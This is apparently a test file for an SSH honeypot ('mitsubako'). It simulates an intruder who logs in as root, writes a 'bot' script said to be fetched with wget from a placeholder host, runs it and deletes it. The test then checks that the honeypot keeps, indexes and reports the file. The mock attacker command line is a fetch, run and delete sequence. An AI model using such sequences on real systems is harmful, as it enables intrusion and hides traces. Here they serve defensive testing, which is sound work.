/** What a stranger runs and deletes, from the sandbox to the commands; and that nothing of the watching stays behind. */
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { childUid, FILE_WITNESS_INDEX } from "../../gateway/model/slot.ts";
import { eventually, mitsubako, ssh, startGateway, type Gateway } from "../gateway/harness.ts";

interface Told {
  readonly how?: string;
  readonly path: string;
  readonly session?: string;
  readonly sha256?: string;
  readonly content?: string;
}

interface Event {
  readonly eventid: string;
  readonly [field: string]: unknown;
}

const SCRIPT = "#!/bin/sh\n# fetched by wget http://192.0.2.9/bot\nexit 0\n";

test("files that were run and deleted before anybody looked are kept, told and found", async (t) => {
  const gateway = await startGateway({ policy: "sandbox:\n  spares: 1\n" });
  t.after(() => gateway[Symbol.asyncDispose]());
  const who = { user: "root", password: "pass", from: "127.0.6.3" };
  const command = `cd /tmp; : wget http://192.0.2.9/bot; printf '%s' '${SCRIPT}' > bot; chmod 755 bot; ./bot; rm bot
    echo gone > gone; rm gone
    (exec < /dev/null > /dev/null 2>&1; echo later > later; while [ ! -e go ]; do sleep 0.1; done; rm later; echo > done) &
    sleep 0.2`;
  assert.equal((await ssh(gateway, who, [command])).code, 0);
  // What they left running deletes while their next session is in there, which has no part in it.
  assert.equal(
    (await ssh(gateway, who, ["touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done"])).code,
    0,
  );

  const files = await eventually("all is in the index", async () => {
    const found = await listed(gateway);
    const paths = found.filter(({ how }) => how !== undefined).map(({ path }) => path);
    return ["/tmp/bot", "/tmp/gone"].every((path) => paths.includes(path)) ? found : undefined;
  });
  const bot = files.findLast(({ path }) => path === "/tmp/bot");
  assert.equal(bot?.how, "run-and-deleted");
  assert.equal(bot.content, "script (sh)");
  assert.ok(bot.sha256 !== undefined);
  const got = await mitsubako(gateway, "files", "get", bot.sha256, "-o", "-");
  assert.equal(got.stdout.toString(), SCRIPT);
  const shown = (await mitsubako(gateway, "files", "show", bot.sha256.slice(0, 10))).stdout.toString();
  assert.match(shown, /^fetched from http:\/\/192\.0\.2\.9\/bot, as a command says$/m);
  assert.match(shown, / run-and-deleted +[0-9a-f]{12} +127\.0\.6\.3 +\/tmp\/bot$/m);

  const asked = await mitsubako(
    { data: "/nowhere" },
    "files",
    "show",
    bot.sha256,
    "--json",
    "--data",
    gateway.data,
  );
  const { sightings } = JSON.parse(asked.stdout.toString()) as { sightings: Told[] };
  assert.deepEqual([...new Set(sightings.map(({ path }) => path))], ["/tmp/bot"]);

  const events = downloads(join(gateway.data, "events"));
  const told = events.filter(({ shasum }) => shasum === bot.sha256);
  assert.equal(told.length, 1, "each content at each path once");
  assert.deepEqual([told[0]?.["destfile"], told[0]?.["url"]], ["/tmp/bot", "http://192.0.2.9/bot"]);

  const witnesses = processesOf(childUid(gateway.slot, FILE_WITNESS_INDEX));
  assert.ok(witnesses.length > 0);
  assert.equal(await gateway.stop(), 0);
  assert.deepEqual(processesOf(childUid(gateway.slot, FILE_WITNESS_INDEX)), []);
  assert.deepEqual(
    readdirSync(join(gateway.data, "artifacts")).filter((name) => name.startsWith(".")),
    [],
  );
  assert.ok(!readFileSync("/proc/self/mountinfo", "utf8").includes(gateway.data));
  const later = (await listed(gateway)).find(({ path }) => path === "/tmp/later");
  assert.deepEqual(
    [later?.how, later?.session],
    ["deleted", bot.session],
    "it is told of who left it running",
  );

  const anew = await mkdtemp(join(tmpdir(), "mitsubako-rebuilt-"));
  t.after(() => rm(anew, { recursive: true, force: true }));
  const before = downloads(join(gateway.data, "events"));
  assert.equal((await mitsubako(gateway, "rebuild", "--events", join(anew, "events"))).code, 0);
  assert.deepEqual(sorted(downloads(join(anew, "events"))), sorted(before), "a rebuild tells the same");
});

async function listed(gateway: Gateway): Promise<Told[]> {
  const { stdout } = await mitsubako(gateway, "files", "--json");
  const lines = stdout.toString().split("\n");
  return lines.filter((line) => line !== "").map((line) => JSON.parse(line) as Told);
}

function downloads(folder: string): Event[] {
  return readdirSync(folder)
    .filter((name) => name.startsWith("mitsubako.json"))
    .flatMap((name) => readFileSync(join(folder, name), "utf8").split("\n"))
    .filter((line) => line.includes('"cowrie.session.file_download"'))
    .map((line) => JSON.parse(line) as Event);
}

function sorted(events: readonly Event[]): string[] {
  return events.map((event) => JSON.stringify(event)).sort();
}

function processesOf(uid: number): string[] {
  return readdirSync("/proc").filter((name) => {
    try {
      return readFileSync(`/proc/${name}/status`, "utf8").includes(`\nUid:\t${uid}\t`);
    } catch {
      return false; // no process, or it has ended
    }
  });
}
